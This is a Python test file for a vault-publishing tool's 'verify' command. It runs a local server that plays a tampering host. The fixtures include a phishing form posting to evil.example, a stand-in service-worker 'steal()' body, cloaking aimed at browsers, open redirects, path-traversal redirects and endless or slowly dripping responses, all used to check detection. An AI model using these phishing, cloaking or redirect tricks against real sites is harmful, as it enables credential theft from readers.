"""A host, or a thief of its account, shows something else than was published: to some, at some paths, in some way."""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from click.testing import CliRunner, Result
from tests.vault.sealed import PHRASE, sealed

from afterword.cli import main
from afterword.errors import VaultError
from afterword.vault import open_vault
from afterword.vault.hosts.fetching import Answer, fetched
from afterword.vault.hosts.verifying import BLOB_SIZE
from afterword.vault.hosts.visiting import Visit, visited
from afterword.vault.unlocking import unlock_files

FOLDER = "/journal/"
PAGE = unlock_files()["index.html"]
PHISHING = b"<!doctype html><title>Private</title><form action=https://evil.example><input></form>"


@dataclass(frozen=True)
class Reply:
    """What a host sends; more of it without end where it is `endless`."""

    content: bytes = b""
    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)
    endless: bool = False


# What a host answers to a path below its folder and the request's headers; None for what is published.
Tampering = Callable[[str, Mapping[str, str]], Reply | None]


@dataclass
class Host:
    """Where it is, what it was asked for, and how many bytes it sent."""

    address: str = ""
    asked: list[str] = field(default_factory=list)
    sent: int = 0


def honest(_path: str, _headers: Mapping[str, str]) -> Reply | None:
    return None


@contextmanager
def host_of(files: Mapping[str, bytes], tampering: Tampering = honest) -> Iterator[Host]:
    """A host that shows these files as GitHub does, but for what is tampered with."""
    host = Host()

    def published(path: str) -> Reply:
        name = path.partition("?")[0]
        meant = next((one for one in (name or "index.html", f"{name}.html") if one in files), "")
        return Reply(files[meant]) if meant else Reply(files["404.html"], 404)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host.asked.append(self.path)
            path = self.path.removeprefix(FOLDER)
            reply = tampering(path, self.headers) or published(path)  # type: ignore[arg-type]
            self.send_response(reply.status)
            for name, value in reply.headers.items():
                self.send_header(name, value)
            self.end_headers()
            with suppress(OSError):
                self.send(reply)

        def send(self, reply: Reply) -> None:
            self.wfile.write(reply.content)
            host.sent += len(reply.content)
            while reply.endless and host.sent < 400_000_000:
                self.wfile.write(bytes(65536))
                host.sent += 65536

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the library's name
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    host.address = f"http://127.0.0.1:{server.server_port}{FOLDER}"
    try:
        yield host
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def visit(address: str) -> Visit:
    return visited(address, ask=lambda one, headers, size: fetched(one, headers, at_most=size))


def noticed_before(address: str, files: Mapping[str, bytes]) -> list[str]:
    """What the first version noticed: three files and the header, asked for by Python's own name, wherever they led."""
    found = []
    for path in ("index.html", "404.html", "sw.js", "vault.json"):
        with urllib.request.urlopen(address + path) as answer:
            if answer.read(1_000_000) != files[path]:
                found.append(path)
    return found


def verify(address: str) -> Result:
    return CliRunner().invoke(main, ["verify", address], env={"AFTERWORD_PASSPHRASE": PHRASE})


@pytest.fixture(scope="module")
def vault() -> dict[str, bytes]:
    return sealed()


@pytest.fixture(scope="module")
def older() -> dict[str, bytes]:
    return sealed()


def is_browser(headers: Mapping[str, str]) -> bool:
    return headers["User-Agent"].startswith("Mozilla/")


def instead(path: str, *, to_browser: bool | None = None) -> Tampering:
    """Phishing at one path: to everybody, to a browser alone, or to everybody but a browser."""

    def tampering(asked: str, headers: Mapping[str, str]) -> Reply | None:
        is_meant = to_browser is None or is_browser(headers) == to_browser
        return Reply(PHISHING) if asked == path and is_meant else None

    return tampering


def where(is_meant: Callable[[str, Mapping[str, str]], bool], reply: Reply) -> Tampering:
    return lambda path, headers: reply if is_meant(path, headers) else None


UNKNOWN = ("index.html", "404.html", "sw.js", "vault.json", "robots.txt")
SILENT: dict[str, tuple[Tampering, str]] = {
    "the address itself": (instead(""), "the address itself is not what this version"),
    "an address with a question mark": (
        where(lambda path, _: path.startswith("?"), Reply(PHISHING)),
        "is not what this version",
    ),
    "deep paths": (
        where(lambda path, _: path.count("/") > 1, Reply(PHISHING, 404)),
        ".html is answered with something that is not the unlock page",
    ),
    "whatever is not there": (
        where(
            lambda path, _: bool(path) and path not in UNKNOWN and path[:2] not in ("b/", "?"),
            Reply(PHISHING, 404),
        ),
        "more are answered with something that is not the unlock page",
    ),
    "whatever is not there, and said to be": (
        where(lambda path, _: path.endswith("/"), Reply(PHISHING)),
        "are answered with something that is not the unlock page",
    ),
    "the worker, to a browser": (
        instead("sw.js", to_browser=True),
        "To a browser alone: sw.js is not what this version",
    ),
    "the worker, to a browser that will run it": (
        where(
            lambda path, headers: path == "sw.js" and "Service-Worker" in headers, Reply(b"steal()")
        ),
        "To a browser alone: sw.js is not what this version",
    ),
    "the page, to this command": (
        where(
            lambda path, headers: not path and headers["User-Agent"] == "afterword-verify",
            Reply(PHISHING),
        ),
        "To this command alone: the address itself is not what this version",
    ),
    "the header, to a browser": (
        where(lambda path, headers: path == "vault.json" and is_browser(headers), Reply(b"{}")),
        "To a browser alone: vault.json is not what Afterword writes",
    ),
    "a sitemap": (
        instead("sitemap.xml"),
        "sitemap.xml is answered with something that is not the unlock page",
    ),
    "a search index": (
        instead("search/search_index.json"),
        "search/search_index.json is answered with something",
    ),
    "a search index, to a browser": (
        instead("search/search_index.json", to_browser=True),
        "To a browser alone: search/search_index.json is answered",
    ),
    "a page that was left from before": (instead("timeline.html"), "timeline.html is answered"),
    "the repository beside the site": (instead(".git/config"), ".git/config is answered"),
    "a list of the pieces": (instead("b/"), "b/ is answered"),
    "a robots.txt that invites": (
        where(lambda path, _: path == "robots.txt", Reply(b"Sitemap: a.xml")),
        "robots.txt is not what this version",
    ),
    "a robots.txt that is gone": (
        where(lambda path, _: path == "robots.txt", Reply(status=404)),
        "robots.txt is missing",
    ),
    "the unlock page where nothing answers well": (
        where(lambda path, _: path == "", Reply(status=503)),
        "the address itself is not what this version",
    ),
    "a page that goes on by itself": (
        where(
            lambda path, _: path == "",
            Reply(PAGE, headers={"Refresh": "0;url=https://evil.example/"}),
        ),
        "the address itself is answered with an order to go on",
    ),
    "an address that leads out of the folder": (
        where(lambda path, _: path == "", Reply(status=302, headers={"Location": "/evil/"})),
        "the address itself is sent elsewhere, to http://127.0.0.1",
    ),
    "one that leads out of it by dots": (
        where(
            lambda path, _: path == "",
            Reply(status=302, headers={"Location": f"{FOLDER}%2e%2E/evil/"}),
        ),
        "the address itself is sent elsewhere",
    ),
    "one that leads nowhere": (
        where(lambda path, _: path == "", Reply(status=302, headers={"Location": "http://["})),
        "the address itself is sent elsewhere, to http://[",
    ),
    "one that leads in circles": (
        where(lambda path, _: path == "", Reply(status=302, headers={"Location": FOLDER})),
        "the address itself is sent elsewhere",
    ),
}


@pytest.mark.parametrize(("tampering", "said"), SILENT.values(), ids=SILENT)
def test_what_the_first_version_did_not_notice_is_said(
    vault: dict[str, bytes], tampering: Tampering, said: str
) -> None:
    """The positive control: three files, asked for by name, are as they were."""
    with host_of(vault, tampering) as host:
        assert noticed_before(host.address, vault) == []
        assert [one for one in visit(host.address).wrong if said in one] != []
        result = verify(host.address)
    assert (result.exit_code, "Do not type your passphrase" in result.stderr) == (1, True)


def test_an_honest_host_is_believed_and_asked_for_everything(vault: dict[str, bytes]) -> None:
    with host_of(vault) as host:
        found = visit(host.address)
        result = verify(host.address + "index.html#!/timeline.html")
    assert found.wrong == ()
    assert open_vault(found.published, PHRASE) != {}
    assert {FOLDER + path for path in vault if path != ".nojekyll"} - set(host.asked) == set()
    assert (result.exit_code, result.stdout.splitlines()[0]) == (
        0,
        "All is well: the page and the worker are ours, and 7 files open.",
    )
    assert "A host can still show this machine one thing and a reader another" in result.stdout


def test_a_host_that_puts_a_page_where_it_belongs_is_honest(vault: dict[str, bytes]) -> None:
    """Some hosts send from the file to the folder, and say nothing at all where nothing is."""

    def tidy(path: str, _headers: Mapping[str, str]) -> Reply | None:
        if path in ("index.html", "index"):
            return Reply(status=308, headers={"Location": FOLDER})
        if path.partition("?")[0] not in ("", *vault):
            return Reply(status=404)
        return None

    with host_of(vault, tidy) as host:
        assert visit(host.address).wrong == ()


def test_nothing_is_asked_of_another_origin(vault: dict[str, bytes]) -> None:
    with host_of(vault) as elsewhere:
        away = Reply(status=301, headers={"Location": elsewhere.address})

        def tampering(path: str, _headers: Mapping[str, str]) -> Reply | None:
            return away if path == "" else None

        with host_of(vault, tampering) as host:
            found = visit(host.address)
            assert elsewhere.asked == []
            # The positive control: who follows is shown the page that was expected.
            with urllib.request.urlopen(host.address) as answer:
                assert answer.read() == vault["index.html"]
    assert elsewhere.asked == [FOLDER]
    assert [one for one in found.wrong if f"sent elsewhere, to {elsewhere.address}" in one] != []


def test_an_older_header_over_newer_pieces_is_noticed(
    vault: dict[str, bytes], older: dict[str, bytes]
) -> None:
    mixed = {**vault, "vault.json": older["vault.json"]}
    with host_of(mixed) as host:
        assert noticed_before(host.address, mixed) == []
        result = verify(host.address)
    assert (result.exit_code, "is missing. A publish was cut short" in result.stdout) == (1, True)


def test_an_older_publish_for_browsers_alone_is_noticed(
    vault: dict[str, bytes], older: dict[str, bytes]
) -> None:
    """Each of the two opens, so that only their difference shows it."""

    def tampering(path: str, headers: Mapping[str, str]) -> Reply | None:
        return Reply(older["vault.json"]) if path == "vault.json" and is_browser(headers) else None

    with host_of({**older, **vault}, tampering) as host:
        assert noticed_before(host.address, vault) == []
        wrong = visit(host.address).wrong
    assert [one.partition(" for a browser")[0] for one in wrong] == ["vault.json is another"]


def with_pieces(
    vault: Mapping[str, bytes], change: Callable[[list[bytes]], list[bytes]]
) -> dict[str, bytes]:
    paths = [path for path in vault if path.startswith("b/")]
    changed = change([vault[path] for path in paths])
    return {**vault, **dict(zip(paths, changed, strict=True))}


def test_swapped_pieces_are_noticed_by_opening_them(vault: dict[str, bytes]) -> None:
    """The positive control: by everything that shows without a passphrase they are as they should be."""
    swapped = with_pieces(vault, lambda pieces: pieces[::-1])
    with host_of(swapped) as host:
        assert visit(host.address).wrong == ()
        result = verify(host.address)
    assert (result.exit_code, "has been altered" in result.stdout) == (1, True)


@pytest.mark.parametrize("size", [0, BLOB_SIZE - 1, BLOB_SIZE + 1])
def test_a_piece_of_another_length_is_noticed_before_anything_is_asked(
    vault: dict[str, bytes], size: int
) -> None:
    """The positive control: three files and the header are as they were."""
    cut = with_pieces(vault, lambda pieces: [*pieces[1:], pieces[0].ljust(size, b"\0")[:size]])
    with host_of(cut) as host:
        assert noticed_before(host.address, cut) == []
        wrong = visit(host.address).wrong
    assert [one.partition(" is ")[2] for one in wrong] == [
        "not as long as every piece is. It was cut short, or is another."
    ]


def test_an_answer_without_an_end_is_not_read_to_its_end(vault: dict[str, bytes]) -> None:
    """It begins as the page does; the positive control is the reader that goes on."""

    def tampering(path: str, _headers: Mapping[str, str]) -> Reply | None:
        return Reply(vault["index.html"], endless=True) if path == "404.html" else None

    with host_of(vault, tampering) as host:
        with urllib.request.urlopen(host.address + "404.html") as answer:
            assert len(answer.read(30_000_000)) == 30_000_000
        before = host.sent
        wrong = visit(host.address).wrong
    # What lies in the buffers of two sockets was sent as well, and never read.
    assert host.sent - before < 25_000_000
    assert [one.partition(". ")[0] for one in wrong] == [
        "404.html is not what this version of Afterword publishes"
    ]


def test_a_header_without_an_end_is_not_read_either(vault: dict[str, bytes]) -> None:
    def tampering(path: str, _headers: Mapping[str, str]) -> Reply | None:
        return Reply(b" " * 2_000_000) if path == "vault.json" else None

    with host_of(vault, tampering) as host:
        assert visit(host.address).wrong == ("vault.json is far too long.",)


def test_a_header_that_is_gone_is_said(vault: dict[str, bytes]) -> None:
    """A browser could open nothing; a page that asks for the passphrase all the same is suspect."""
    files = {path: content for path, content in vault.items() if path != "vault.json"}
    with host_of(files) as host:
        assert visit(host.address).wrong == ("vault.json is missing, so there is nothing to open.",)


@contextmanager
def dripping(head: bytes, drops: int) -> Iterator[str]:
    """A host that sends a byte from time to time, each well before anybody would give up waiting for it."""
    ended = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            with suppress(OSError):
                self.wfile.write(head)
                for _ in range(drops):
                    ended.wait(0.1)
                    self.wfile.write(b"x")
                self.wfile.write(b": y\r\n\r\n")

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the library's name
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/"
    ended.set()
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize(
    "head", [b"HTTP/1.0 200 OK\r\n", b"HTTP/1.0 200 OK\r\n\r\n"], ids=["head", "content"]
)
def test_an_answer_that_drips_is_not_waited_for(head: bytes) -> None:
    """The positive control: whoever waits for each byte by itself, waits for all."""
    with dripping(head, drops=12) as address:
        with urllib.request.urlopen(address, timeout=0.5) as answer:
            assert answer.status == 200
            answer.read()
        assert fetched(address, seconds=0.5) == Answer(0)


def test_nobody_there_is_no_answer() -> None:
    assert fetched("https://127.0.0.1:1/") == fetched("http://127.0.0.1:1/") == Answer(0)


def test_a_piece_that_is_not_answered_is_said(vault: dict[str, bytes]) -> None:
    def ask(address: str, headers: Mapping[str, str], size: int) -> Answer:
        is_piece = "/b/" in address and not address.endswith("/b/")
        return Answer(0) if is_piece else fetched(address, headers, at_most=size)

    with host_of(vault) as host:
        wrong = visited(host.address, ask=ask).wrong
    assert [one.partition(" is ")[2] for one in wrong] == ["not answered, or too slowly."]


def test_a_page_that_is_not_answered_is_said(vault: dict[str, bytes]) -> None:
    def ask(address: str, headers: Mapping[str, str], size: int) -> Answer:
        return Answer(0) if address.endswith("/sw.js") else fetched(address, headers, at_most=size)

    with host_of(vault) as host:
        wrong = visited(host.address, ask=ask).wrong
    assert wrong == ("sw.js is not answered, or too slowly.",)


def test_a_host_of_something_else_is_no_vault() -> None:
    with (
        host_of({"404.html": b"?"}) as host,
        pytest.raises(VaultError, match="There is no vault at"),
    ):
        visit(host.address)


def test_nobody_at_an_address_is_said() -> None:
    with pytest.raises(VaultError, match=r"Nobody answers at https://nowhere\.invalid/journal/"):
        visited("HTTPS://Nowhere.invalid/journal", ask=lambda *_: Answer(0))
    with pytest.raises(VaultError, match=r"http://\[ is no address"):
        visited("http://[", ask=lambda *_: Answer(0))
